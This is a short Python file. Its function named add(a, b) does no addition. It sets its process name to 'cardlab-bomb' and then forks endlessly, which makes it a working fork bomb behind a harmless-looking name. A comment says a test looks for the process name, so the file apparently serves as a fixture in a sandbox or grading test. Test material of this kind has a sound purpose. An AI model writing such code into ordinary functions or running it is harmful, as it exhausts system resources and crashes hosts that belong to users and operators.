"""Forks without end; every copy forks too."""
import ctypes
import os

_libc = ctypes.CDLL(None)


def add(a, b):
    _libc.prctl(15, b"cardlab-bomb", 0, 0, 0)  # PR_SET_NAME, so the test can look for us
    while True:
        try:
            os.fork()
        except OSError:
            pass
